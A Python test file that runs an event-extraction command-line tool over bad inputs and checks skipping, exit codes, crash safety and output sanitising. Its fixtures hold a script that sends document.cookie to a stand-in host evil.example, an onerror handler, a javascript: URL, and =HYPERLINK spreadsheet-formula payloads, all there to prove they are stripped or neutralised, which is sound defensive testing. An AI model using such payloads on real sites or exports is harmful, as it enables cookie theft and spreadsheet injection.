"""End to end: a build over a folder of bad inputs, as a user runs it (``python -m events build``).

The folder holds an empty file, a binary file, a PDF, a duplicate, a Latin-1 article, an HTML page with a
script and an inline onerror handler, sentences with impossible dates, and sentences that start like
spreadsheet formulas (``=HYPERLINK(``, ``+``, ``-``, ``@``). The build says one line per skipped file,
keeps the valid events, exits 0 (2 with --strict); its CSV export holds no formula-like cell; a build
killed while writing leaves the last store whole.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import random
import signal
import subprocess
import sys
import textwrap
import threading
from pathlib import Path

import pandas as pd
import pytest

from events import cli
from events.output import dates, store

pytestmark = pytest.mark.slow

ROOT = Path(__file__).resolve().parents[1]

LATIN1 = (
    "CARACAS, Nov. 3 (Reuters) - Venezuelan President Nicolás Maduro met the Russian envoy in Bogotá on "
    "Oct. 28, 2025, the señor's office said.\n"
    "Russia delivered air-defence systems to Venezuela on Oct. 31, 2025, according to the señor in charge "
    "of the port of La Guaira.\n"
)
HTML = """<!DOCTYPE html><html><head><title>Russian bombers land in Venezuela</title>
<script>document.write("SCRIPT-RAN"); fetch("https://evil.example/steal?c=" + document.cookie)</script>
<style>p { background: url("javascript:alert('STYLE-RAN')") }</style>
</head><body>
<article>
<h1>Russian bombers land in Venezuela</h1>
<p>Two Russian Tu-160 strategic bombers landed at Maiquetía airport near Caracas on Dec. 10, 2025, the
Venezuelan defence ministry said.</p>
<img src="missing.png" onerror="alert('ONERROR-RAN')">
<p>The aircraft were deployed for joint exercises with the Venezuelan air force on Dec. 12, 2025, officials said.</p>
</article>
<script>var leaked = "SCRIPT-RAN-2";</script>
</body></html>
"""
IMPOSSIBLE = (
    "Officials said a Russian cargo plane arrived in Caracas on February 30, 2025.\n"
    "A second shipment was delivered on 31/02/2025, the ministry said.\n"
    "The report, dated 2025-13-05, described the deployment of troops to the border.\n"
    "Russian military advisers arrived in Caracas on Nov. 1, 2025, the embassy said.\n"
)
FORMULAS = (
    '=HYPERLINK("http://evil.example/steal";"Click here") Russia delivered missiles to Venezuela on Oct. 30, 2025.\n'
    "+1 Russia shipped radar systems to Venezuela on Nov. 2, 2025, officials said.\n"
    "-Russia deployed two warships to the Caribbean on Nov. 4, 2025, the navy said.\n"
    "@Maduro signed a defence agreement with Moscow on Nov. 5, 2025, state media reported.\n"
)
MANIFEST = (
    "doc_id,title,outlet,url,published\n"
    "latin1,Maduro meets envoy,Reuters,,2025-11-03\n"
    "impossible,Impossible dates,Wire,,2025-11-03\n"
    'formulas,=HYPERLINK("http://evil.example"),@evil,,2025-11-06\n'
    "ghost,No such file,Nobody,,2025-02-30\n"
)
BAD = {  # file -> the reason its skip line gives (start of it)
    "empty.txt": "empty file",
    "binary.txt": "binary content, not text",
    "picture.txt": "binary content (PNG image), not text",
    "report.pdf": "unsupported file type .pdf",
    "zz_copy.txt": "same text as latin1.txt; read once",
}
LEAKS = ("SCRIPT-RAN", "STYLE-RAN", "ONERROR-RAN", "onerror", "<script", "document.cookie", "alert(", "javascript:")
FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")


def make_inputs(folder: Path) -> Path:
    folder.mkdir(parents=True)
    (folder / "empty.txt").write_bytes(b"")
    (folder / "binary.txt").write_bytes(random.Random(3).randbytes(3000))
    (folder / "picture.txt").write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + random.Random(4).randbytes(500))
    (folder / "report.pdf").write_bytes(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n")
    (folder / "latin1.txt").write_bytes(LATIN1.encode("latin-1"))
    (folder / "zz_copy.txt").write_bytes(LATIN1.encode("latin-1"))
    (folder / "page.html").write_text(HTML, encoding="utf-8")
    (folder / "impossible.txt").write_text(IMPOSSIBLE, encoding="utf-8")
    (folder / "formulas.txt").write_text(FORMULAS, encoding="utf-8")
    (folder / "manifest.csv").write_text(MANIFEST, encoding="utf-8")
    return folder


def run_cli(*args: str, check_traceback: bool = True) -> subprocess.CompletedProcess:
    proc = subprocess.run(
        [sys.executable, "-m", "events", *args], cwd=ROOT, capture_output=True, text=True, timeout=600
    )
    if check_traceback:
        assert "Traceback" not in proc.stderr, proc.stderr
    return proc


@pytest.fixture(scope="module")
def built(tmp_path_factory):
    """The bad-input folder, built once with the real command line."""
    tmp = tmp_path_factory.mktemp("robust")
    folder = make_inputs(tmp / "in")
    out = tmp / "store"
    proc = run_cli("build", str(folder), "--out", str(out))
    return folder, out, proc


def skip_lines(stderr: str) -> list[str]:
    return [line for line in stderr.splitlines() if line.startswith("skipped ")]


def test_build_says_one_line_per_skipped_file_and_exits_0(built):
    _, out, proc = built
    assert proc.returncode == 0, proc.stderr
    lines = skip_lines(proc.stderr)
    assert len(lines) == len(BAD), lines
    for name, reason in BAD.items():
        (line,) = [ln for ln in lines if ln.startswith(f"skipped {name}: ")]
        assert line.startswith(f"skipped {name}: {reason}"), line
    assert store.read(out).meta["skipped"] == lines


def test_manifest_mistakes_are_named_with_file_and_line(built):
    folder, _, proc = built
    assert f"{folder / 'manifest.csv'}:5: published '2025-02-30' is not a real date" in proc.stderr
    assert f"{folder / 'manifest.csv'}:5: doc_id 'ghost' names no file" in proc.stderr


def test_the_good_documents_are_read_and_the_latin1_text_survives(built):
    _, out, _ = built
    st = store.read(out)
    assert sorted(st.documents["doc_id"]) == ["formulas", "impossible", "latin1", "page"]
    latin = st.mentions[st.mentions["doc_id"] == "latin1"]
    assert not latin.empty
    quotes = " ".join(latin["quote"])
    assert "Bogotá" in quotes and "señor" in quotes and "Nicolás Maduro" in quotes
    assert "\ufffd" not in quotes and "Ã" not in quotes


VALID = {  # a sentence of each good document -> the date it states
    "Nicolás Maduro met the Russian envoy": "2025-10-28",
    "Russia delivered air-defence systems": "2025-10-31",
    "Tu-160 strategic bombers landed": "2025-12-10",
    "Russian military advisers arrived": "2025-11-01",
    "Russia shipped radar systems": "2025-11-02",
    "Russia delivered missiles to Venezuela": "2025-10-30",
}


def test_valid_events_are_kept(built):
    _, out, _ = built
    st = store.read(out)
    for words, day in VALID.items():
        rows = st.mentions[st.mentions["quote"].str.contains(words, regex=False)]
        assert dt.date.fromisoformat(day) in set(rows["date_start"]), (words, rows.to_dict("records"))
        assert set(rows["event_id"]) <= set(st.events["event_id"])
    assert len(st.events) >= 5
    for col in ("date_start", "date_end"):
        for value in st.events[col]:
            assert value is None or type(value) is dt.date


def test_impossible_dates_never_become_real_dates(built):
    _, out, _ = built
    mentions = store.read(out).mentions
    for bad in ("February 30, 2025", "31/02/2025", "2025-13-05"):
        rows = mentions[mentions["quote"].str.contains(bad, regex=False)]
        for _, row in rows.iterrows():
            assert row["precision"] != "day" and bad not in row["date_text"], row.to_dict()
    assert not {"2025-02-30", "2025-03-02", "2025-03-03", "2026-01-05"} & set(dates.as_text(mentions["date_start"]))


def test_script_and_onerror_never_reach_the_store(built):
    _, out, _ = built
    st = store.read(out)
    page = st.mentions[st.mentions["doc_id"] == "page"]
    assert "Tu-160" in " ".join(page["quote"])  # the article text itself is there
    version = st.path
    for f in version.iterdir():
        text = f.read_bytes().decode("utf-8", errors="replace")
        for leak in LEAKS:
            assert leak not in text, (f.name, leak)


def test_csv_export_has_no_formula_like_cell(built, tmp_path):
    _, out, _ = built
    target = tmp_path / "events.csv"
    proc = run_cli("export", "--store", str(out), "--format", "csv", "--out", str(target))
    assert proc.returncode == 0, proc.stderr
    rows = list(csv.reader(io.StringIO(target.read_text(encoding="utf-8"))))
    assert len(rows) > 5
    cells = [cell for row in rows for cell in row]
    bad = [c for c in cells if c.startswith(FORMULA_LEADS)]
    assert not bad
    assert [c for c in cells if c.startswith("'") and c[1:2] in "=+-@"]  # formula-like text was there, neutralized
    # The store's own CSV tables are guarded too (the manifest gave a formula as a title, and an outlet).
    for f in store.read(out).path.glob("*.csv"):
        for row in csv.reader(io.StringIO(f.read_text(encoding="utf-8"))):
            assert not [c for c in row if c.startswith(FORMULA_LEADS)], (f.name, row)
    documents_csv = (store.read(out).path / "documents.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK(" in documents_csv and ",'@evil," in documents_csv


def test_json_export_is_valid(built, tmp_path):
    _, out, _ = built
    target = tmp_path / "events.json"
    proc = run_cli("export", "--store", str(out), "--format", "json", "--out", str(target))
    assert proc.returncode == 0, proc.stderr
    doc = json.loads(target.read_text(encoding="utf-8"))
    assert len(doc["events"]) == len(store.read(out).events)
    texts = [e["description"] for e in doc["events"]]
    assert not [t for t in texts if t.startswith("'")]  # JSON keeps text as it is: no spreadsheet guard


def test_strict_exits_2_when_files_were_skipped(built, tmp_path):
    folder, _, _ = built
    proc = run_cli("build", str(folder), "--out", str(tmp_path / "store"), "--strict", "--quiet")
    assert proc.returncode == 2
    assert len(skip_lines(proc.stderr)) == len(BAD)


def test_size_limit_from_the_command_line(built, tmp_path):
    folder, _, _ = built
    proc = run_cli("build", str(folder), "--out", str(tmp_path / "store"), "--max-file-bytes", "300", "--quiet")
    assert proc.returncode == 0, proc.stderr
    assert "skipped formulas.txt: too large: " in proc.stderr
    assert "over the limit of 300 bytes" in proc.stderr


# ------------------------------------------------------------------------------- user mistakes: no tracebacks


@pytest.mark.parametrize(
    "setup, args, message",
    [
        pytest.param(
            lambda t: None,
            ["build", "{t}/nope", "--out", "{t}/store"],
            "input folder {t}/nope does not exist or is not a folder",
            id="missing input folder",
        ),
        pytest.param(
            lambda t: (t / "in.txt").write_text("x"),
            ["build", "{t}/in.txt", "--out", "{t}/store"],
            "does not exist or is not a folder",
            id="input is a file",
        ),
        pytest.param(
            lambda t: ((t / "in").mkdir(), (t / "mine").mkdir(), (t / "mine" / "thesis.docx").write_text("x")),
            ["build", "{t}/in", "--out", "{t}/mine"],
            "exists and is not an event store",
            id="out is a folder",
        ),
        pytest.param(
            lambda t: ((t / "in").mkdir(), (t / "out.csv").write_text("x")),
            ["build", "{t}/in", "--out", "{t}/out.csv"],
            "is a file, not an event store",
            id="out is a file",
        ),
        pytest.param(
            lambda t: (t / "in").mkdir(),
            ["build", "{t}/in", "--out", "{t}/s", "--max-file-bytes", "0"],
            "max_file_bytes must be a positive whole number",
            id="bad size limit",
        ),
        pytest.param(
            lambda t: None,
            ["export", "--store", "{t}/none", "--format", "csv", "--out", "{t}/x.csv"],
            "No store at",
            id="export from no store",
        ),
    ],
)
def test_user_mistakes_exit_2_with_a_message(tmp_path, capsys, setup, args, message):
    setup(tmp_path)
    code = cli.main([a.format(t=tmp_path) for a in args])
    err = capsys.readouterr().err
    assert code == 2
    assert message.format(t=tmp_path) in err
    if (tmp_path / "mine").exists():
        assert (tmp_path / "mine" / "thesis.docx").read_text() == "x" and not (tmp_path / "mine").is_symlink()


# ------------------------------------------------------------------------------------- a build killed mid-way

HANGING_BUILD = textwrap.dedent("""
    # python -m events build ..., except that writing the store hangs after its first table is on disk.
    import os, runpy, sys, time
    import pandas as pd
    real = pd.DataFrame.to_parquet
    def hang(self, path, *args, **kwargs):
        real(self, path, *args, **kwargs)
        open(os.environ["READY_FILE"], "w").close()
        time.sleep(600)
    pd.DataFrame.to_parquet = hang
    sys.argv = ["events", *sys.argv[1:]]
    runpy.run_module("events", run_name="__main__")
""")


def test_a_build_killed_mid_write_leaves_the_last_store_whole(built, tmp_path):
    folder, _, _ = built
    out = tmp_path / "store"
    assert run_cli("build", str(folder), "--out", str(out), "--quiet").returncode == 0
    before = store.read(out)
    # A bigger folder, so the killed build would write a different store.
    big = tmp_path / "big"
    big.mkdir()
    for i in range(40):
        (big / f"a{i:03d}.txt").write_text(
            f"Russia delivered {i + 2} missile systems to Venezuela on Oct. {1 + i % 28}, 2025, officials said.\n",
            encoding="utf-8",
        )
    script = tmp_path / "hanging_build.py"
    script.write_text(HANGING_BUILD, encoding="utf-8")
    ready = tmp_path / "ready"
    env = {**os.environ, "READY_FILE": str(ready), "PYTHONPATH": str(ROOT)}  # imports events as python -m does
    proc = subprocess.Popen(
        [sys.executable, str(script), "build", str(big), "--out", str(out), "--quiet"],
        cwd=ROOT,
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
    )
    try:
        while not ready.exists():
            if proc.poll() is not None:
                pytest.fail(f"the build ended before it was killed: {proc.stderr.read().decode()}")
            threading.Event().wait(0.05)
        assert list(store.versions_dir(out).glob("*.partial/*.parquet"))  # the new store is half written
        os.kill(proc.pid, signal.SIGKILL)
        proc.wait()
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
        proc.stderr.close()
    after = store.read(out)
    assert after.path == before.path
    for name in ("documents", "mentions", "events"):
        pd.testing.assert_frame_equal(getattr(after, name), getattr(before, name))
    # The next build goes through and clears the half-written version away.
    proc = run_cli("build", str(big), "--out", str(out), "--quiet")
    assert proc.returncode == 0, proc.stderr
    assert len(store.read(out).documents) == 40
    assert not list(store.versions_dir(out).glob("*.partial"))


def test_a_non_store_out_folder_is_refused_before_any_work(tmp_path, monkeypatch):
    from events import pipeline

    (tmp_path / "in").mkdir()
    (tmp_path / "mine").mkdir()
    (tmp_path / "mine" / "thesis.docx").write_text("x")
    monkeypatch.setattr(pipeline, "run", lambda *a, **k: pytest.fail("the pipeline ran"))
    with pytest.raises(store.StoreError, match="exists and is not an event store"):
        pipeline.build(tmp_path / "in", tmp_path / "mine")


@pytest.mark.parametrize("files", [{}, {"a.pdf": b"%PDF-1.4", "b.txt": b""}], ids=["empty folder", "only bad files"])
def test_a_folder_with_nothing_to_read_exits_2_and_writes_no_store(tmp_path, capsys, caplog, files):
    (tmp_path / "in").mkdir()
    for name, data in files.items():
        (tmp_path / "in" / name).write_bytes(data)
    assert cli.main(["build", str(tmp_path / "in"), "--out", str(tmp_path / "store"), "--quiet"]) == 2
    assert f"error: no document was read ({len(files)} skipped" in capsys.readouterr().err
    assert not (tmp_path / "store").exists()
    assert len([r for r in caplog.messages if r.startswith("skipped ")]) == len(files)
    args = ["build", str(tmp_path / "in"), "--out", str(tmp_path / "store"), "--quiet", "--allow-empty"]
    assert cli.main(args) == 0
    st = store.read(tmp_path / "store")
    assert st.events.empty and st.documents.empty


def test_a_build_that_skips_every_file_keeps_the_good_store_and_exits_2(built, tmp_path):
    folder, _, _ = built
    out = tmp_path / "store"
    assert run_cli("build", str(folder), "--out", str(out), "--quiet").returncode == 0
    before = store.read(out)
    proc = run_cli("build", str(folder), "--out", str(out), "--max-file-bytes", "10")
    assert proc.returncode == 2
    assert "error: no document was read (9 skipped: " in proc.stderr
    assert f"the store at {out} is kept as it was. Pass --allow-empty to write an empty store" in proc.stderr
    assert "events removed" not in proc.stdout + proc.stderr
    after = store.read(out)
    assert after.path == before.path and len(after.events) == len(before.events)


def test_export_never_writes_over_the_stores_own_files_and_asks_before_overwriting(built, tmp_path, capsys):
    _, out, _ = built
    events_csv = store.read(out).path / "events.csv"
    before = events_csv.read_bytes()
    for target in (out / "events.csv", events_csv):
        assert cli.main(["export", "--store", str(out), "--format", "csv", "--out", str(target), "--force"]) == 2
        assert "is a file of the store" in capsys.readouterr().err
    assert events_csv.read_bytes() == before
    mine = tmp_path / "mine.csv"
    mine.write_text("my own notes", encoding="utf-8")
    assert cli.main(["export", "--store", str(out), "--format", "csv", "--out", str(mine)]) == 2
    assert f"--out {mine} exists; pass --force to overwrite it" in capsys.readouterr().err
    assert mine.read_text(encoding="utf-8") == "my own notes"
    assert cli.main(["export", "--store", str(out), "--format", "csv", "--out", str(mine), "--force"]) == 0
    assert "my own notes" not in mine.read_text(encoding="utf-8")


# ---- long input: work that grows with the text, not with its square ----------------------------------------


class _CountingText(str):
    """A text that counts the characters its slices copy (``text[a:b]``)."""

    copied = 0

    def __getitem__(self, key):
        out = super().__getitem__(key)
        if isinstance(key, slice):
            type(self).copied += len(out)
        return out


def _work(fn, text: str) -> int:
    """The work ``fn(text)`` does, counted, not timed: Python calls (each generator step too) plus the
    characters its slices of the text copy."""
    calls = 0

    def count(frame, event, arg):
        nonlocal calls
        calls += 1

    _CountingText.copied = 0
    sys.setprofile(count)
    try:
        fn(_CountingText(text))
    finally:
        sys.setprofile(None)
    return calls + _CountingText.copied


@pytest.mark.parametrize(
    "unit",
    [
        "Russia and ",  # a country over and over: each one used to be checked against every one before it
        "President Nicolás Maduro said and ",  # people found by their role
        "Maduro and Venezuela in Caracas on Oct. 26, 2025 and ",
    ],
)
def test_actors_of_a_long_sentence_cost_work_in_proportion_to_its_length(unit):
    from events.text import gazetteer

    known = {"maduro": "Nicolás Maduro"}
    gazetteer.actors("Russia", known)  # the gazetteer is loaded once, outside the count
    sizes = (10_000, 20_000, 40_000)
    work = [_work(lambda t: gazetteer.actors(t, known), unit * (n // len(unit))) for n in sizes]
    found = gazetteer.actors(unit * (sizes[-1] // len(unit)), known)
    assert len(found) >= sizes[-1] // len(unit)  # every repetition names at least one actor
    for small, large in zip(work, work[1:]):
        assert large / small < 2.3, f"work {work} for sizes {sizes}: grows faster than the text"


# ---- one document's unexpected failure costs that document only ----------------------------------------------

PAGE = (
    "<!DOCTYPE html><html><body><article><p>Russia delivered fuel to Venezuela on Oct. 30, 2025, "
    "officials said.</p></article></body></html>"
)
PLAIN = "Russia shipped radar systems to Venezuela on Nov. 2, 2025, officials said.\n"


def _three_documents(folder: Path) -> Path:
    folder.mkdir()
    (folder / "page.html").write_text(PAGE, encoding="utf-8")
    (folder / "plain.txt").write_text(PLAIN, encoding="utf-8")
    (folder / "other.txt").write_text(
        "WASHINGTON, Nov. 5, 2025 - Russia sent two warships to the Caribbean on Nov. 4, 2025, the navy said.\n",
        encoding="utf-8",
    )
    return folder


def test_a_missing_library_in_html_reading_skips_that_file_only(tmp_path, monkeypatch, caplog):
    folder = _three_documents(tmp_path / "in")
    monkeypatch.setitem(sys.modules, "trafilatura", None)  # `import trafilatura` raises ImportError
    with caplog.at_level("WARNING"):
        code = cli.main(["build", str(folder), "--out", str(tmp_path / "store"), "--quiet"])
    assert code == 0
    assert (
        "skipped page.html: failed while reading it (ModuleNotFoundError: import of trafilatura halted" in caplog.text
    )
    docs = pd.read_parquet(tmp_path / "store" / "documents.parquet")
    assert sorted(docs["doc_id"]) == ["other", "plain"]
    assert cli.main(["build", str(folder), "--out", str(tmp_path / "store"), "--quiet", "--strict"]) == 2


@pytest.mark.parametrize(
    "stage, target, reason",
    [
        ("clean", "events.reading.clean.clean", "failed while cleaning its text (ValueError: broken on purpose)"),
        ("dateline", "events.temporal.dct.read_text", "failed while reading its dates (ValueError: broken on purpose)"),
        (
            "extraction",
            "events.extraction.extract.mentions",
            "failed while extracting events (ValueError: broken on purpose)",
        ),
        (
            "sentences",
            "events.reading.sentences.split",
            "failed while extracting events (ValueError: broken on purpose)",
        ),
    ],
)
def test_an_error_in_one_documents_processing_skips_it_and_the_build_goes_on(
    tmp_path, monkeypatch, caplog, stage, target, reason
):
    import importlib

    folder = _three_documents(tmp_path / "in")
    module, name = target.rsplit(".", 1)
    real = getattr(importlib.import_module(module), name)

    def broken(*args, **kwargs):
        text = args[0].text if hasattr(args[0], "text") else str(args[0])
        if "radar" in text:
            raise ValueError("broken on purpose")
        return real(*args, **kwargs)

    monkeypatch.setattr(target, broken)
    log_file = tmp_path / "build.log"
    with caplog.at_level("DEBUG"):
        code = cli.main(
            ["build", str(folder), "--out", str(tmp_path / "store"), "--quiet", "--strict", "--jobs", "1"]
            + ["--log-file", str(log_file)]
        )
    assert code == 2
    assert f"skipped plain.txt: {reason}" in caplog.text
    # the cause kept: the exception with its traceback, at debug level, and in the build's log file
    caught = [r for r in caplog.records if r.levelname == "DEBUG" and r.exc_info and r.message.startswith("plain:")]
    assert [str(r.exc_info[1]) for r in caught] == ["broken on purpose"], [r.message for r in caught]
    written = log_file.read_text(encoding="utf-8")
    assert f"skipped plain.txt: {reason}" in written
    assert "Traceback (most recent call last)" in written and "ValueError: broken on purpose" in written
    assert 'in broken\n    raise ValueError("broken on purpose")' in written
    docs = pd.read_parquet(tmp_path / "store" / "documents.parquet")
    assert "plain" not in set(docs["doc_id"]) and {"other", "page"} <= set(docs["doc_id"])
